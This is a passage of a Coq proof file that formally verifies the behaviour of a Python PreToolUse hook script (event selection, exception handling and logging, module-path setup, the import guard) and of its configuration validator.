      destruct (String.eqb name "Edit") eqn:H1;
        [apply String.eqb_eq in H1; subst; now left|].
      destruct (String.eqb name "Write") eqn:H2;
        [apply String.eqb_eq in H2; subst; right; now left|].
      destruct (String.eqb name "MultiEdit") eqn:H3;
        [apply String.eqb_eq in H3; subst; right; right; now left|].
      discriminate H.
    + intros (n & [= <-] & [H|[H|[H|[]]]]); subst name; reflexivity.
Qed.

(** X12. [main] asks [load_rules] for one kind of event only, read off
    the key "tool_name" of the input: "bash" for the tool Bash, "file"
    for Edit, Write and MultiEdit, and no kind ([None]) for every other
    tool, for a missing key and for a name that is no string; what
    [load_rules] would answer for another kind has no effect on the
    run. *)
Theorem main_asks_for_one_event (input : list (string * json)) :
  (event_of input = Some "bash"%string
   <-> Json.lookup "tool_name" input = Some (JStr "Bash"))
  /\ (event_of input = Some "file"%string
      <-> exists name,
            Json.lookup "tool_name" input = Some (JStr name)
            /\ In name ["Edit"; "Write"; "MultiEdit"]%string)
  /\ (event_of input = None
      \/ event_of input = Some "bash"%string
      \/ event_of input = Some "file"%string)
  /\ (forall load_rules load_rules',
        load_rules (event_of input) = load_rules' (event_of input) ->
        run_main Rule (Ret (JDict input)) load_rules evaluate_rules utcnow
        = run_main Rule (Ret (JDict input)) load_rules' evaluate_rules
            utcnow).
Proof.
  split; [apply event_of_bash|]. split; [apply event_of_file|]. split.
  - unfold event_of. destruct (Json.eq_str _ "Bash"); [now right; left|].
    destruct (existsb _ _); [now right; right|now left].
  - intros lr lr' H. open_main. rewrite !main_body_on_dict.
    unfold Py.bind at 1. unfold Py.lift at 1.
    symmetry. unfold Py.bind at 1. unfold Py.lift at 1.
    now rewrite H.
Qed.

(** X13. An exception that is no [Exception] (a [KeyboardInterrupt], a
    [SystemExit] of any code) raised while the input is read, the rules
    are loaded or the rules are evaluated is not caught by any handler:
    nothing is printed and nothing is logged, and the [finally] clause
    still ends the process with status 0. *)
Theorem main_is_silent_on_a_base_exception
        (json_load_stdin : result json)
        (load_rules : option string -> result (list Rule)) (e : exn) :
  is_Exception e = false ->
  (json_load_stdin = Raise e
   \/ (exists input,
         json_load_stdin = Ret (JDict input)
         /\ load_rules (event_of input) = Raise e)
   \/ (exists input rules,
         json_load_stdin = Ret (JDict input)
         /\ load_rules (event_of input) = Ret rules
         /\ evaluate_rules rules (JDict input) = Raise e)) ->
  run_main Rule json_load_stdin load_rules evaluate_rules utcnow
  = (0, initial_world).
Proof.
  intros Hbase [Hload|[(input & Hload & Hrules)
                      |(input & rules & Hload & Hrules & Heval)]];
    open_main; rewrite Hload.
  - unfold main_body. unfold Py.bind at 1. unfold Py.lift at 1.
    cbv beta iota.
    destruct e as [[] msg]; try discriminate Hbase; reflexivity.
  - rewrite main_body_on_dict. step_lift Hrules.
    destruct e as [[] msg]; try discriminate Hbase; reflexivity.
  - rewrite main_body_on_dict. step_lift Hrules. step_lift Heval.
    destruct e as [[] msg]; try discriminate Hbase; reflexivity.
Qed.

End Run.

Lemma main_is_silent_on_a_base_exception_witness :
  run_main unit (Raise (Exn (SystemExit 1) "")) (fun _ => Ret [])
    (fun _ _ => Ret (JDict [])) example_now
  = (0, initial_world).
Proof.
  apply (main_is_silent_on_a_base_exception unit) with
    (e := Exn (SystemExit 1) "").
  - reflexivity.
  - left. reflexivity.
Defined.

End HookRun.

Module HookOutcome.

Import PreToolUse.
Local Open Scope py_scope.

Ltac open_main :=
  unfold run_main, main, Py.try_finally, Py.try_except.

Ltac step_lift H :=
  unfold Py.bind at 1; unfold Py.lift at 1; rewrite H; cbv beta iota.

(** the record the logger of the hook prints at the clock reading [now] *)
Definition log_record (now : string) (level : LogLevel) (message : string)
           (context : option json) (error : option exn) : json :=
  JDict (Logging.entry_of "pretooluse" now level message context error).

(** the one-key answer of the handlers *)
Definition system_message (text : string) : json :=
  JDict [("systemMessage", JStr text)].

Section Run.

Variable Rule : Type.
Variable load_rules : option string -> result (list Rule).
Variable evaluate_rules : list Rule -> json -> result json.
Variable utcnow : nat -> string.

(** X14. An input that is valid JSON but no object (a list, a string, a
    number, true, false, null) is answered like an unexpected error: the
    [AttributeError] of its missing [get] is logged as CRITICAL and its
    text is printed as the "systemMessage", with exit status 0; the rules
    are not loaded. *)
Theorem main_reports_an_input_that_is_no_object (v : json) :
  (forall entries, v <> JDict entries) ->
  let e :=
    Exn AttributeError
      ("'" ++ Json.type_name v ++ "' object has no attribute 'get'") in
  run_main Rule (Ret v) load_rules evaluate_rules utcnow
  = (0,
     mkWorld [system_message ("Hookify error: " ++ exn_msg e)]
       [log_record (utcnow 0) CRITICAL "Unexpected error in PreToolUse hook"
          None (Some e)]
       1).
Proof.
  intros Hv. destruct v; try reflexivity.
  now destruct (Hv entries).
Qed.

(** X15. An exception of the collaborators that is an [Exception] but
    none of the three classes with a handler of their own, raised before
    anything is printed, is logged once as CRITICAL and answered with the
    one record whose "systemMessage" is "Hookify error: " and the text of
    the exception. *)
Theorem main_reports_an_unexpected_exception
        (json_load_stdin : result json) (e : exn) :
  is_Exception e = true ->
  is_class JSONDecodeError e = false ->
  is_class FileNotFoundError e = false ->
  is_class PermissionError e = false ->
  (json_load_stdin = Raise e
   \/ (exists input,
         json_load_stdin = Ret (JDict input)
         /\ load_rules (event_of input) = Raise e)
   \/ (exists input rules,
         json_load_stdin = Ret (JDict input)
         /\ load_rules (event_of input) = Ret rules
         /\ evaluate_rules rules (JDict input) = Raise e)) ->
  run_main Rule json_load_stdin load_rules evaluate_rules utcnow
  = (0,
     mkWorld [system_message ("Hookify error: " ++ exn_msg e)]
       [log_record (utcnow 0) CRITICAL "Unexpected error in PreToolUse hook"
          None (Some e)]
       1).
Proof.
  intros Hexc Hjson Hfile Hperm
    [Hload|[(input & Hload & Hrules)
           |(input & rules & Hload & Hrules & Heval)]];
    open_main; rewrite Hload.
  - unfold main_body. unfold Py.bind at 1. unfold Py.lift at 1.
    cbv beta iota. cbn [Py.dispatch].
    rewrite Hjson, Hfile, Hperm, Hexc. reflexivity.
  - rewrite HookRun.main_body_on_dict. step_lift Hrules.
    cbn [Py.dispatch]. rewrite Hjson, Hfile, Hperm, Hexc. reflexivity.
  - rewrite HookRun.main_body_on_dict. step_lift Hrules. step_lift Heval.
    cbn [Py.dispatch]. rewrite Hjson, Hfile, Hperm, Hexc. reflexivity.
Qed.

(** X16. When the engine returns a result that counts as false (the
    empty dict of "no rule matched", but also null, an empty list, an
    empty string, 0 or false), [main] prints it and logs nothing at all:
    the error stream stays empty and the clock is not read. *)
Theorem main_is_quiet_when_nothing_matched
        (input : list (string * json)) (rules : list Rule) (result : json) :
  load_rules (event_of input) = Ret rules ->
  evaluate_rules rules (JDict input) = Ret result ->
  Json.truthy result = false ->
  run_main Rule (Ret (JDict input)) load_rules evaluate_rules utcnow
  = (0, mkWorld [result] [] 0).
Proof.
  intros Hrules Heval Hfalse. open_main.
  rewrite HookRun.main_body_on_dict. step_lift Hrules. step_lift Heval.
  unfold HookRun.log_match. rewrite Hfalse. reflexivity.
Qed.

(** X17. When the engine returns a non-empty dict, [main] prints it and
    logs one INFO record "Hook matched rules" whose context tells a block
    from a warning: "has_block" is whether the dict has the key
    "hookSpecificOutput", "has_warning" whether it has the key
    "systemMessage" and not "hookSpecificOutput". *)
Theorem main_logs_what_matched
        (input : list (string * json)) (rules : list Rule)
        (entries : list (string * json)) :
  load_rules (event_of input) = Ret rules ->
  evaluate_rules rules (JDict input) = Ret (JDict entries) ->
  entries <> [] ->
  let has key :=
    match Json.lookup key entries with Some _ => true | None => false end in
  run_main Rule (Ret (JDict input)) load_rules evaluate_rules utcnow
  = (0,
     mkWorld [JDict entries]
       [log_record (utcnow 0) INFO "Hook matched rules"
          (Some (JDict
                   [ ("has_block", JBool (has "hookSpecificOutput"%string));
                     ("has_warning",
                      JBool (has "systemMessage"%string
                             && negb (has "hookSpecificOutput"%string))) ]))
          None]
       1).
Proof.
  intros Hrules Heval Hne has. subst has. open_main.
  rewrite HookRun.main_body_on_dict. step_lift Hrules. step_lift Heval.
  unfold HookRun.log_match.
  destruct entries as [|entry entries]; [contradiction|].
  cbn [Json.truthy Json.contains].
  unfold Py.bind at 1. unfold print_stdout at 1. cbv beta iota.
  unfold Py.bind at 1. unfold Py.ret at 1. cbv beta iota.
  unfold Py.bind at 1. unfold Py.ret at 1. cbv beta iota.
  destruct (Json.lookup "hookSpecificOutput" (entry :: entries));
    destruct (Json.lookup "systemMessage" (entry :: entries)); reflexivity.
Qed.

End Run.

Lemma main_reports_an_input_that_is_no_object_witness :
  fst (run_main unit (Ret (JList [])) (fun _ => Ret [])
         (fun _ _ => Ret (JDict [])) example_now) = 0.
Proof.
  rewrite (main_reports_an_input_that_is_no_object unit (fun _ => Ret [])
             (fun _ _ => Ret (JDict [])) example_now (JList [])).
  - reflexivity.
  - discriminate.
Defined.

Lemma main_reports_an_unexpected_exception_witness :
  stdout
    (snd (run_main unit (Raise (Exn (OtherException "ValueError") "bad input"))
            (fun _ => Ret []) (fun _ _ => Ret (JDict [])) example_now))
  = [system_message "Hookify error: bad input"].
Proof.
  rewrite (main_reports_an_unexpected_exception unit (fun _ => Ret [])
             (fun _ _ => Ret (JDict [])) example_now
             (Raise (Exn (OtherException "ValueError") "bad input"))
             (Exn (OtherException "ValueError") "bad input"));
    try reflexivity.
  left. reflexivity.
Defined.

Lemma main_is_quiet_when_nothing_matched_witness :
  run_main unit (Ret (JDict [("tool_name", JStr "Bash")])) (fun _ => Ret [])
    (fun _ _ => Ret (JDict [])) example_now
  = (0, mkWorld [JDict []] [] 0).
Proof.
  apply (main_is_quiet_when_nothing_matched unit (fun _ => Ret [])
           (fun _ _ => Ret (JDict [])) example_now
           [("tool_name", JStr "Bash")] []);
    reflexivity.
Defined.

Lemma main_logs_what_matched_witness :
  stdout
    (snd (run_main unit (Ret (JDict [("tool_name", JStr "Bash")]))
            (fun _ => Ret [])
            (fun _ _ => Ret (system_message "careful")) example_now))
  = [system_message "careful"].
Proof.
  rewrite (main_logs_what_matched unit (fun _ => Ret [])
             (fun _ _ => Ret (system_message "careful")) example_now
             [("tool_name", JStr "Bash")] []
             [("systemMessage", JStr "careful")]);
    try reflexivity.
  discriminate.
Defined.

End HookOutcome.

(** ** What runs before [main] *)

Module ScriptRun.

Import Script.

Lemma existsb_eqb_In (x : string) (l : list string) :
  existsb (String.eqb x) l = true <-> In x l.
Proof.
  rewrite existsb_exists. split.
  - intros (y & Hin & Heq). apply String.eqb_eq in Heq. now subst.
  - intros Hin. exists x. split; [exact Hin|apply String.eqb_refl].
Qed.

Lemma existsb_eqb_not_In (x : string) (l : list string) :
  existsb (String.eqb x) l = false <-> ~ In x l.
Proof.
  rewrite <- existsb_eqb_In. destruct (existsb _ l); split; congruence.
Qed.

(** *** [os.path.dirname] *)

Lemma list_ascii_of_string_app (a b : string) :
  list_ascii_of_string (a ++ b)
  = (list_ascii_of_string a ++ list_ascii_of_string b)%list.
Proof.
  induction a as [|c a IH]; [reflexivity|]. simpl. now rewrite IH.
Qed.

Lemma drop_while_app (f : ascii -> bool) (l m : list ascii) :
  forallb f l = true ->
  PosixPath.drop_while f (l ++ m) = PosixPath.drop_while f m.
Proof.
  induction l as [|c l IH]; intros H; [reflexivity|].
  simpl in H. apply andb_prop in H as [Hc Hl].
  simpl. rewrite Hc. now apply IH.
Qed.

Lemma forallb_rev (f : ascii -> bool) (l : list ascii) :
  forallb f l = true -> forallb f (rev l) = true.
Proof.
  rewrite !forallb_forall. intros H x Hin. apply H. now apply in_rev.
Qed.

(** a string that is not empty and does not end in "/" ends in another
    character *)
Lemma last_character (s : string) :
  s <> ""%string ->
  ConfigValidator.ends_with_char s "/" = false ->
  exists stem c,
    s = (stem ++ String c "")%string /\ PosixPath.is_sep c = false.
Proof.
  induction s as [|x s IH]; intros Hne Hend; [contradiction|].
  destruct s as [|y s].
  - exists ""%string, x. split; [reflexivity|exact Hend].
  - destruct IH as (stem & c & Heq & Hc); [discriminate|exact Hend|].
    exists (String x stem), c. split; [|exact Hc].
    cbn [String.append]. now rewrite <- Heq.
Qed.

Lemma append_associative (a b c : string) :
  ((a ++ b) ++ c = a ++ b ++ c)%string.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  cbn [String.append]. now rewrite IH.
Qed.

Lemma ends_with_char_behind (a b : string) (c : ascii) :
  b <> ""%string ->
  ConfigValidator.ends_with_char (a ++ b) c
  = ConfigValidator.ends_with_char b c.
Proof.
  intros Hb. induction a as [|x a IH]; [reflexivity|].
  cbn [String.append]. destruct (a ++ b)%string as [|y t] eqn:Heq.
  - destruct a; [cbn in Heq; contradiction|discriminate Heq].
  - exact IH.
Qed.

Lemma no_slash_at_the_end (name : string) :
  no_slash name = true ->
  ConfigValidator.ends_with_char name "/" = false.
Proof.
  induction name as [|x name IH]; intros H; [reflexivity|].
  unfold no_slash in H. simpl in H. apply andb_prop in H as [Hx Hrest].
  destruct name as [|y name].
  - apply negb_true_iff in Hx. exact Hx.
  - now apply IH.
Qed.

(** Of [parent/name] the directory name is [parent], also when [name]
    is empty. *)
Lemma dirname_of_parent_and_name (parent name : string) :
  parent <> ""%string ->
  ConfigValidator.ends_with_char parent "/" = false ->
  no_slash name = true ->
  PosixPath.dirname (parent ++ "/" ++ name) = parent.
Proof.
  intros Hne Hend Hname.
  destruct (last_character parent Hne Hend) as (stem & c & -> & Hc).
  unfold PosixPath.dirname.
  rewrite !list_ascii_of_string_app. cbn [list_ascii_of_string].
  rewrite !rev_app_distr. cbn [rev app]. rewrite <- !app_assoc.
  cbn [app].
  rewrite drop_while_app by (apply forallb_rev; exact Hname).
  cbn [PosixPath.drop_while].
  change (PosixPath.is_sep "/") with true. cbn [negb].
  cbn [forallb]. rewrite Hc.
  change (PosixPath.is_sep "/") with true. cbn [andb].
  cbn [PosixPath.drop_while].
  change (PosixPath.is_sep "/") with true. rewrite Hc. cbv iota.
  cbn [rev]. rewrite rev_involutive.
  change [c] with (list_ascii_of_string (String c "")).
  rewrite <- list_ascii_of_string_app.
  apply string_of_list_ascii_of_string.
Qed.

Example dirname_examples :
  map PosixPath.dirname
    [ "/a/b"; "/a/b/"; "/a"; "a"; "/"; "//"; "a/b//"; "//a"; ""; "a/";
      "///a//b///"; "a//b"; "/a//"; "/opt/hookify"; "/opt/hookify/" ]%string
  = [ "/a"; "/a/b"; "/"; ""; "/"; "//"; "a/b"; "//"; ""; "a";
      "///a//b"; "a"; "/a"; "/opt"; "/opt/hookify" ]%string.
Proof. reflexivity. Qed.

(** X18. The set-up of the module search path puts the plugin root and
    [os.path.dirname] of it on the path without repeating an entry: both
    are on the path afterwards, the old path is kept as it was behind at
    most these two new entries, a path without repetition stays so, and
    running the set-up a second time changes nothing.  Without the
    environment variable, or with an empty one, the path is untouched.
    For a root [parent/name] the directory name is the parent directory
    [parent], as the comment of the script wants; for a root written
    with a slash at its end, [parent/name/], it is the root itself
    without the slash, and the parent directory is not put on the path;
    for a root without any slash it is the empty string. *)
Theorem setup_sys_path_adds_root_and_dirname
        (root parent name : string) (sys_path : list string) :
  setup_sys_path None sys_path = sys_path
  /\ setup_sys_path (Some ""%string) sys_path = sys_path
  /\ (root <> ""%string ->
      let new_path := setup_sys_path (Some root) sys_path in
      In root new_path
      /\ In (PosixPath.dirname root) new_path
      /\ (exists added,
            new_path = added ++ sys_path
            /\ (length added <= 2)%nat
            /\ forall x, In x added ->
                         (x = root \/ x = PosixPath.dirname root)
                         /\ ~ In x sys_path)
      /\ (NoDup sys_path -> NoDup new_path)
      /\ setup_sys_path (Some root) new_path = new_path)
  /\ (parent <> ""%string ->
      ConfigValidator.ends_with_char parent "/" = false ->
      no_slash name = true ->
      PosixPath.dirname (parent ++ "/" ++ name) = parent
      /\ PosixPath.dirname (parent ++ "/") = parent
      /\ (name <> ""%string ->
          PosixPath.dirname (parent ++ "/" ++ name ++ "/")
          = (parent ++ "/" ++ name)%string))
  /\ (no_slash name = true -> PosixPath.dirname name = ""%string)
  /\ setup_sys_path (Some "/opt/hookify"%string) ["/usr/lib/python3"%string]
     = ["/opt/hookify"; "/opt"; "/usr/lib/python3"]%string
  /\ setup_sys_path (Some "/opt/hookify/"%string) ["/usr/lib/python3"%string]
     = ["/opt/hookify/"; "/opt/hookify"; "/usr/lib/python3"]%string
  /\ setup_sys_path (Some "hookify"%string) ["/usr/lib/python3"%string]
     = ["hookify"; ""; "/usr/lib/python3"]%string.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  split; [|split; [|split; [|repeat split]]].
  2: { intros Hne Hend Hname. split; [|split].
       - now apply dirname_of_parent_and_name.
       - apply (dirname_of_parent_and_name parent ""); auto.
       - intros Hname_ne.
         assert (Hne' : (parent ++ "/" ++ name)%string <> ""%string)
           by (destruct parent; [contradiction|discriminate]).
         assert (Hend' : ConfigValidator.ends_with_char
                           (parent ++ "/" ++ name) "/" = false).
         { rewrite ends_with_char_behind by discriminate.
           rewrite (ends_with_char_behind "/" name "/" Hname_ne).
           now apply no_slash_at_the_end. }
         pose proof (dirname_of_parent_and_name (parent ++ "/" ++ name) ""
                       Hne' Hend' eq_refl) as H.
         etransitivity; [|exact H]. f_equal.
         change ("/" ++ "")%string with "/"%string.
         now rewrite append_associative. }
  2: { intros Hname. unfold PosixPath.dirname.
       rewrite <- (app_nil_r (rev (list_ascii_of_string name))).
       rewrite drop_while_app by (apply forallb_rev; exact Hname).
       reflexivity. }
  intros Hne new_path. subst new_path. unfold setup_sys_path.
  destruct root as [|c root]; [contradiction|]. cbn [PyStr.truthy].
  set (r := String c root). set (d := PosixPath.dirname r).
  destruct (existsb (String.eqb d) sys_path) eqn:Hd.
  - destruct (existsb (String.eqb r) sys_path) eqn:Hr.
    + pose proof (proj1 (existsb_eqb_In _ _) Hd) as Hd'.
      pose proof (proj1 (existsb_eqb_In _ _) Hr) as Hr'.
      split; [exact Hr'|]. split; [exact Hd'|]. split; [|split].
      * exists []. split; [reflexivity|]. split; [simpl; lia|].
        intros x [].
      * intros Hnd. exact Hnd.
      * now rewrite Hd, Hr.
    + pose proof (proj1 (existsb_eqb_In _ _) Hd) as Hd'.
      pose proof (proj1 (existsb_eqb_not_In _ _) Hr) as Hr'.
      split; [now left|]. split; [now right|]. split; [|split].
      * exists [r]. split; [reflexivity|]. split; [simpl; lia|].
        intros x [<-|[]]. split; [now left|exact Hr'].
      * intros Hnd. now constructor.
      * assert (H1 : existsb (String.eqb d) (r :: sys_path) = true)
          by (apply existsb_eqb_In; now right).
        assert (H2 : existsb (String.eqb r) (r :: sys_path) = true)
          by (apply existsb_eqb_In; now left).
        now rewrite H1, H2.
  - pose proof (proj1 (existsb_eqb_not_In _ _) Hd) as Hd'.
    destruct (existsb (String.eqb r) (d :: sys_path)) eqn:Hr.
    + pose proof (proj1 (existsb_eqb_In _ _) Hr) as Hr'.
      split; [exact Hr'|]. split; [now left|]. split; [|split].
      * exists [d]. split; [reflexivity|]. split; [simpl; lia|].
        intros x [<-|[]]. split; [now right|exact Hd'].
      * intros Hnd. now constructor.
      * assert (H1 : existsb (String.eqb d) (d :: sys_path) = true)
          by (apply existsb_eqb_In; now left).
        now rewrite H1, Hr.
    + pose proof (proj1 (existsb_eqb_not_In _ _) Hr) as Hr'.
      split; [now left|]. split; [right; now left|]. split; [|split].
      * exists [r; d]. split; [reflexivity|]. split; [simpl; lia|].
        intros x [<-|[<-|[]]].
        -- split; [now left|]. intros Hin. apply Hr'. now right.
        -- split; [now right|exact Hd'].
      * intros Hnd. constructor; [exact Hr'|]. now constructor.
      * assert (H1 : existsb (String.eqb d) (r :: d :: sys_path) = true)
          by (apply existsb_eqb_In; right; now left).
        assert (H2 : existsb (String.eqb r) (r :: d :: sys_path) = true)
          by (apply existsb_eqb_In; now left).
        now rewrite H1, H2.
Qed.

Lemma setup_sys_path_adds_root_and_dirname_witness :
  PosixPath.dirname "/home/user/plugins/hookify" = "/home/user/plugins"%string
  /\ PosixPath.dirname "/home/user/plugins/hookify/"
     = "/home/user/plugins/hookify"%string.
Proof.
  destruct (proj1 (proj2 (proj2 (proj2
              (setup_sys_path_adds_root_and_dirname
                 "" "/home/user/plugins" "hookify" []))))
              ltac:(discriminate) eq_refl eq_refl) as (H1 & _ & H3).
  split; [exact H1|apply H3; discriminate].
Defined.

Section Run.

Variable Rule : Type.
Variable subclass : string -> bool.
Variable json_load_stdin : result json.
Variable load_rules : option string -> result (list Rule).
Variable evaluate_rules : list Rule -> json -> result json.
Variable utcnow : nat -> string.

(** X19. The import guard is fail-open for [ImportError] and its
    subclasses only: when an import raises [ImportError],
    [ModuleNotFoundError] or another subclass ([ZipImportError] is one)
    the script prints one record with the keys "systemMessage" and
    "error", whose type is "ImportError" whatever the class, and ends
    with status 0 without running [main]; when an import raises another
    [Exception] the script prints nothing to the standard output and the
    status is 1; when the imports succeed the script is the run of
    [main]. *)
Theorem import_guard_catches_import_errors_only (e : exn) (msg : string) :
  (is_ImportError subclass e = true ->
   run_script Rule subclass (Raise e) json_load_stdin load_rules
     evaluate_rules utcnow
   = (0,
      mkWorld
        [JDict [ ("systemMessage",
                  JStr ("Hookify import error: " ++ exn_msg e));
                 ("error",
                  JDict [ ("type", JStr "ImportError");
                          ("message", JStr (exn_msg e));
                          ("component", JStr "pretooluse") ]) ]]
        [] 0))
  /\ (is_ImportError subclass e = false ->
      is_Exception e = true ->
      let run := run_script Rule subclass (Raise e) json_load_stdin
                   load_rules evaluate_rules utcnow in
      fst run = 1 /\ stdout (snd run) = [])
  /\ run_script Rule subclass (Ret tt) json_load_stdin load_rules
       evaluate_rules utcnow
     = PreToolUse.run_main Rule json_load_stdin load_rules evaluate_rules
         utcnow
  /\ is_ImportError subclass (Exn (OtherException "ImportError") msg) = true
  /\ is_ImportError subclass (Exn (OtherException "ModuleNotFoundError") msg)
     = true
  /\ (forall name, subclass name = true ->
                   is_ImportError subclass (Exn (OtherException name) msg)
                   = true)
  /\ (forall name, is_ImportError subclass (Exn (OtherException name) msg)
                   = true ->
                   name = "ImportError"%string
                   \/ name = "ModuleNotFoundError"%string
                   \/ subclass name = true)
  /\ is_ImportError stdlib_import_errors
       (Exn (OtherException "ZipImportError") msg) = true
  /\ is_ImportError stdlib_import_errors
       (Exn (OtherException "ValueError") msg) = false
  /\ is_ImportError subclass (Exn TypeError msg) = false.
Proof.
  unfold run_script, script.
  split; [|split; [|split; [|split; [|split; [|split; [|split]]]]]].
  - intros H. unfold Py.bind, Py.try_except, Py.lift. cbn [Py.dispatch].
    rewrite H. reflexivity.
  - intros H Hexc. unfold Py.bind, Py.try_except, Py.lift.
    cbn [Py.dispatch]. rewrite H.
    destruct e as [[] m]; try discriminate Hexc; split; reflexivity.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - intros name Hsub. unfold is_ImportError. cbn [exn_cls].
    destruct (String.eqb name "ImportError"); [reflexivity|].
    destruct (String.eqb name "ModuleNotFoundError"); [reflexivity|].
    exact Hsub.
  - intros name. unfold is_ImportError. cbn [exn_cls].
    destruct (String.eqb name "ImportError") eqn:H1;
      [apply String.eqb_eq in H1; now left|].
    destruct (String.eqb name "ModuleNotFoundError") eqn:H2;
      [apply String.eqb_eq in H2; right; now left|].
    intros H. right. now right.
  - repeat split.
Qed.

End Run.

Lemma import_guard_catches_import_errors_only_witness :
  fst (run_script unit stdlib_import_errors
         (Raise (Exn (OtherException "ZipImportError") "bad local file header"))
         (Ret (JDict [])) (fun _ => Ret []) (fun _ _ => Ret (JDict []))
         example_now) = 0
  /\ stdout
       (snd (run_script unit stdlib_import_errors
               (Raise (Exn (OtherException "ZipImportError")
                         "bad local file header"))
               (Ret (JDict [])) (fun _ => Ret []) (fun _ _ => Ret (JDict []))
               example_now))
     = [JDict [ ("systemMessage",
                 JStr "Hookify import error: bad local file header");
                ("error",
                 JDict [ ("type", JStr "ImportError");
                         ("message", JStr "bad local file header");
                         ("component", JStr "pretooluse") ]) ]]%string.
Proof.
  rewrite (proj1 (import_guard_catches_import_errors_only unit
                    stdlib_import_errors (Ret (JDict [])) (fun _ => Ret [])
                    (fun _ _ => Ret (JDict [])) example_now
                    (Exn (OtherException "ZipImportError")
                       "bad local file header") "")
                 eq_refl).
  split; reflexivity.
Defined.

End ScriptRun.

(** * Properties of config_validation.py *)

Module ConfigChecks.

Import ConfigValidator.

Definition is_error (e : ConfigError) : Prop := severity e = "error"%string.
Definition is_warning (e : ConfigError) : Prop :=
  severity e = "warning"%string.

Lemma Forall_flat_map_opt {A B} (P : B -> Prop) (f : A -> bool) (g : A -> B)
      (l : list A) :
  (forall x, P (g x)) -> Forall P (flat_map (fun x => opt (f x) (g x)) l).
Proof.
  intros H. induction l as [|x l IH]; simpl; [constructor|].
  apply Forall_app. split; [|exact IH].
  destruct (f x); simpl; auto.
Qed.

Lemma flat_map_opt_nil {A B} (f : A -> bool) (g : A -> B) (l : list A) :
  flat_map (fun x => opt (f x) (g x)) l = []
  <-> forall x, In x l -> f x = false.
Proof.
  induction l as [|x l IH]; simpl.
  - split; [intros _ y []|reflexivity].
  - split.
    + intros H. apply app_eq_nil in H as [H1 H2].
      intros y [Heq|Hin]; [subst y|now apply IH].
      destruct (f x); [discriminate H1|reflexivity].
    + intros H. rewrite (H x (or_introl eq_refl)). simpl.
      apply IH. intros y Hin. apply H. now right.
Qed.

Lemma with_severity_all (level : string) (l : list ConfigError) :
  Forall (fun e => severity e = level) l -> with_severity level l = l.
Proof.
  unfold with_severity. induction 1 as [|e l He _ IH]; simpl;
    [reflexivity|].
  rewrite He, String.eqb_refl. now rewrite IH.
Qed.

Lemma with_severity_none (level : string) (l : list ConfigError) :
  Forall (fun e => severity e <> level) l -> with_severity level l = [].
Proof.
  unfold with_severity. induction 1 as [|e l He _ IH]; simpl;
    [reflexivity|].
  apply String.eqb_neq in He. now rewrite He.
Qed.

Lemma with_severity_app (level : string) (l1 l2 : list ConfigError) :
  with_severity level (l1 ++ l2)
  = with_severity level l1 ++ with_severity level l2.
Proof.
  apply filter_app.
Qed.

Section Environment.

Variable environ : string -> option string.
Variable isdir : string -> bool.
Variable isfile : string -> bool.
Variable access_x : string -> bool.

Local Abbreviation env_checks := (validate_environment environ).
Local Abbreviation structure_checks := (validate_plugin_structure environ isdir isfile).
Local Abbreviation permission_checks :=
  (validate_permissions environ isfile access_x).
Local Abbreviation checks := (all_errors environ isdir isfile access_x).
Local Abbreviation outcome := (validate_all environ isdir isfile access_x).

Lemma env_checks_warnings : Forall is_warning env_checks.
Proof.
  unfold validate_environment. cbn [flat_map REQUIRED_ENV_VARS
    RECOMMENDED_ENV_VARS app].
  rewrite app_nil_r. now apply Forall_opt.
Qed.

Lemma structure_checks_errors : Forall is_error structure_checks.
Proof.
  unfold validate_plugin_structure.
  destruct (environ "CLAUDE_PLUGIN_ROOT") as [root|]; [|constructor].
  destruct (negb (PyStr.truthy root)); [constructor|].
  apply Forall_app. split; now apply Forall_flat_map_opt.
Qed.

Lemma permission_checks_errors : Forall is_error permission_checks.
Proof.
  unfold validate_permissions.
  destruct (environ "CLAUDE_PLUGIN_ROOT") as [root|]; [|constructor].
  destruct (negb (PyStr.truthy root)); [constructor|].
  induction hook_scripts as [|script l IH]; simpl; [constructor|].
  apply Forall_app. split; [|exact IH].
  destruct (isfile _); [now apply Forall_opt|constructor].
Qed.

Lemma Forall_differs (P : ConfigError -> Prop) (level : string)
      (l : list ConfigError) :
  (forall e, P e -> severity e <> level) -> Forall P l ->
  Forall (fun e => severity e <> level) l.
Proof.
  intros H Hl. eapply Forall_impl; [|exact Hl]. exact H.
Qed.

(** What [validate_all] returns, list by list. *)
Lemma validate_all_lists :
  critical outcome = []
  /\ errors outcome = structure_checks ++ permission_checks
  /\ warnings outcome = env_checks.
Proof.
  pose proof env_checks_warnings as Hw.
  pose proof structure_checks_errors as Hs.
  pose proof permission_checks_errors as Hp.
  unfold validate_all, all_errors.
  cbn [critical errors warnings]. rewrite !with_severity_app.
  split; [|split].
  - rewrite (with_severity_none "critical" env_checks),
      (with_severity_none "critical" structure_checks),
      (with_severity_none "critical" permission_checks);
      [reflexivity|..];
      (eapply Forall_differs; [|eassumption]);
      intros e He; unfold is_error, is_warning in He; rewrite He;
      discriminate.
  - rewrite (with_severity_none "error" env_checks),
      (with_severity_all "error" structure_checks Hs),
      (with_severity_all "error" permission_checks Hp);
      [reflexivity|].
    eapply Forall_differs; [|exact Hw].
    intros e He; unfold is_warning in He; rewrite He; discriminate.
  - rewrite (with_severity_all "warning" env_checks Hw),
      (with_severity_none "warning" structure_checks),
      (with_severity_none "warning" permission_checks);
      [now rewrite !app_nil_r|..];
      (eapply Forall_differs; [|eassumption]);
      intros e He; unfold is_error in He; rewrite He; discriminate.
Qed.

Lemma valid_iff_no_errors : valid outcome = true <-> errors outcome = [].
Proof.
  destruct validate_all_lists as (Hc & _ & _).
  unfold validate_all in *. cbn [valid critical errors] in *.
  rewrite Hc. cbn [length Z.of_nat Z.eqb andb].
  destruct (with_severity "error" checks); simpl; split;
    congruence.
Qed.

(** X20. [validate_all] sorts every finding into exactly one list: the
    list "critical" is always empty (no environment variable is
    required), "errors" holds the findings on the plugin structure and on
    the permissions, in this order, "warnings" those on the environment;
    nothing is lost or repeated, and "valid" holds exactly when "errors"
    is empty, so that a warning never makes the configuration invalid. *)
Theorem validate_all_sorts_the_findings :
  critical outcome = []
  /\ errors outcome = structure_checks ++ permission_checks
  /\ warnings outcome = env_checks
  /\ checks = warnings outcome ++ errors outcome
  /\ (forall e, In e (errors outcome) -> severity e = "error"%string)
  /\ (forall e, In e (warnings outcome) -> severity e = "warning"%string)
  /\ (valid outcome = true <-> errors outcome = []).
Proof.
  destruct validate_all_lists as (Hc & He & Hw).
  split; [exact Hc|]. split; [exact He|]. split; [exact Hw|].
